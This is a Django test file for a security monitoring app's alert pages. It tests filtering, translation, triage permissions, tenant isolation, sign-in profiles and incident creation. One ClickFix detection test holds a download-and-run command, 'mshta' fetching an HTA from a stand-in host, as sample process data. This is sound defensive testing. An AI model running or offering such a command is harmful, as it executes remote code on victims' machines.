"""Alert pages: filters, explanation with its events, triage, a person's access profile."""

from datetime import timedelta

from django.conf import settings

from clinicshield.monitoring.actions import do_raise_alert
from clinicshield.monitoring.models import Alert, Suppression

from .conftest import at, daily, signin, write_events

NOW = at("2025-02-02 06:00")


def ana_alert(org, **extra):
    values = {
        "kind": "new_country",
        "severity": "medium",
        "key": "new_country:ana:NG",
        "explanation": {
            "code": "new_country",
            "params": {
                "user": "ana",
                "country": "NG",
                "city": "Lagos",
                "known": ["ES"],
                "src_ip": "41.1.1.1",
            },
        },
        "ts": NOW,
        "user": "ana",
        "src_ip": "41.1.1.1",
        "evidence": {"record_refs": ["line 7"]},
    }
    values.update(extra)
    return do_raise_alert(org, **values)


def test_the_list_shows_explained_alerts_and_filters_them(client_alice, org_a):
    ana_alert(org_a)
    ana_alert(
        org_a,
        kind="brute_force",
        key="brute_force:user:bob",
        user="bob",
        severity="high",
        explanation="12 failed sign-ins for bob",
    )
    page = client_alice.get(f"/o/{org_a.slug}/monitoring/alerts/")
    text = page.content.decode()
    assert page.status_code == 200
    assert "ana signed in from NG (Lagos) for the first time; before, only from ES." in text
    assert "12 failed sign-ins for bob" in text
    only_high = client_alice.get(
        f"/o/{org_a.slug}/monitoring/alerts/?severity=high"
    ).content.decode()
    assert "12 failed sign-ins for bob" in only_high and "Lagos" not in only_high


def test_the_spanish_reader_gets_the_sentence_in_spanish(client_alice, org_a):
    ana_alert(org_a)
    client_alice.post("/i18n/setlang/", {"language": "es", "next": "/"})
    text = client_alice.get(f"/o/{org_a.slug}/monitoring/alerts/").content.decode()
    assert "ana inició sesión desde NG (Lagos) por primera vez" in text


def test_the_alert_page_shows_the_events_behind_it(client_alice, org_a):
    write_events(
        settings.DATA_DIR,
        "auth",
        [
            signin(NOW, "ana", src_ip="41.1.1.1", src_country="NG", record_ref="line 7"),
            signin(
                NOW - timedelta(hours=1),
                "ana",
                src_ip="83.1.1.1",
                src_country="ES",
                record_ref="line 8",
            ),
        ],
        org=org_a.slug,
    )
    alert = ana_alert(org_a)
    text = client_alice.get(f"/o/{org_a.slug}/monitoring/alerts/{alert.pk}/").content.decode()
    assert "41.1.1.1" in text and "line 7" in text
    assert "line 8" not in text


def test_owners_triage_and_viewers_cannot(client_alice, client_bob, org_a):
    alert = ana_alert(org_a)
    base = f"/o/{org_a.slug}/monitoring/alerts/{alert.pk}"
    assert client_bob.post(f"{base}/acknowledge/").status_code == 403
    assert client_alice.post(f"{base}/acknowledge/").status_code == 302
    assert (
        client_alice.post(f"{base}/false_positive/", {"reason": "Ana was in Lagos"}).status_code
        == 302
    )
    alert.refresh_from_db()
    assert alert.status == "false_positive"
    assert Suppression.objects.get(organisation=org_a).reason == "Ana was in Lagos"


def test_another_organisation_cannot_see_the_alert(client_charlie, org_a):
    alert = ana_alert(org_a)
    assert client_charlie.get(f"/o/{org_a.slug}/monitoring/alerts/{alert.pk}/").status_code == 404
    assert client_charlie.get(f"/o/{org_a.slug}/monitoring/people/ana/").status_code == 404


def test_a_persons_profile_draws_their_usual_hours(client_alice, org_a):
    from django.utils import timezone

    today = timezone.now().replace(hour=0, minute=0, second=0, microsecond=0)
    rows = [
        signin(ts, "ana", src_country="ES", device="WS-ANA")
        for ts in daily(today.replace(day=1) - timedelta(days=40), 40, 8)
    ]
    write_events(settings.DATA_DIR, "auth", rows, org=org_a.slug)
    page = client_alice.get(f"/o/{org_a.slug}/monitoring/people/ana/")
    text = page.content.decode()
    assert page.status_code == 200
    assert "<svg" in text and text.count("<rect") == 7 * 24
    assert "ES · " in text and "WS-ANA" in text


def test_marking_a_service_account_from_the_profile(client_alice, org_a):
    client_alice.post(f"/o/{org_a.slug}/monitoring/people/svc_backup/service-account/")
    assert list(org_a.service_accounts.values_list("name", flat=True)) == ["svc_backup"]
    client_alice.post(f"/o/{org_a.slug}/monitoring/people/svc_backup/service-account/")
    assert not org_a.service_accounts.exists()
    assert Alert.objects.count() == 0


def test_another_organisation_gets_404_even_on_post_only_pages(client_charlie, client_alice, org_a):
    alert = ana_alert(org_a)
    for url in (
        f"/o/{org_a.slug}/monitoring/alerts/{alert.pk}/resolve/",
        f"/o/{org_a.slug}/monitoring/people/ana/service-account/",
    ):
        assert client_charlie.get(url).status_code == 404
        assert client_charlie.post(url).status_code == 404
    assert (
        client_alice.get(f"/o/{org_a.slug}/monitoring/alerts/{alert.pk}/resolve/").status_code
        == 405
    )


def test_the_sentence_names_the_person_behind_the_account(client_alice, org_a):
    from clinicshield.accounts.models import Person

    Person.objects.create(
        organisation=org_a, name="Ana García", email="ana@clinic-a.example", department="reception"
    )
    ana_alert(org_a)
    text = client_alice.get(f"/o/{org_a.slug}/monitoring/alerts/").content.decode()
    assert "Ana García signed in from NG (Lagos) for the first time" in text


def test_a_clickfix_alert_page_shows_the_command_and_the_rules(client_alice, org_a):
    from clinicshield.monitoring.actions import do_run_detection

    command = "mshta https://captcha.example/verify.hta"
    write_events(
        settings.DATA_DIR,
        "process",
        [
            {
                "ts": NOW,
                "host": "reception-pc",
                "user": "ana",
                "event_code": "sysmon:1",
                "image": "C:\\Windows\\System32\\mshta.exe",
                "parent_image": "C:\\Windows\\explorer.exe",
                "command_line": command,
                "record_ref": "p1",
            }
        ],
        org=org_a.slug,
    )
    (alert,) = do_run_detection(org_a, NOW + timedelta(minutes=5)).new_alerts
    text = client_alice.get(f"/o/{org_a.slug}/monitoring/alerts/{alert.pk}/").content.decode()
    assert "ClickFix - Explorer Starts a Download-and-Run One-Liner" in text
    assert text.count(command) >= 2  # in the sentence and in the event row


def test_an_alert_becomes_an_incident_with_the_right_playbook(client_alice, org_a):
    from clinicshield.readiness.models import Incident

    alert = ana_alert(org_a)
    base = f"/o/{org_a.slug}/monitoring/alerts/{alert.pk}"
    response = client_alice.post(f"{base}/incident/")
    incident = Incident.objects.get(organisation=org_a)
    assert response.status_code == 302 and response["Location"].endswith(
        f"/incidents/{incident.number}/"
    )
    assert (incident.source, incident.source_ref) == ("monitoring", f"alert:{alert.pk}")
    assert incident.playbook_key == "suspicious-sign-in"
    assert "ana signed in from NG (Lagos)" in incident.timeline.get(kind="opened").text
    # Asking twice finds the same incident; the alert page links to it.
    client_alice.post(f"{base}/incident/")
    assert Incident.objects.filter(organisation=org_a).count() == 1
    assert f"Incident #{incident.number}" in client_alice.get(f"{base}/").content.decode()
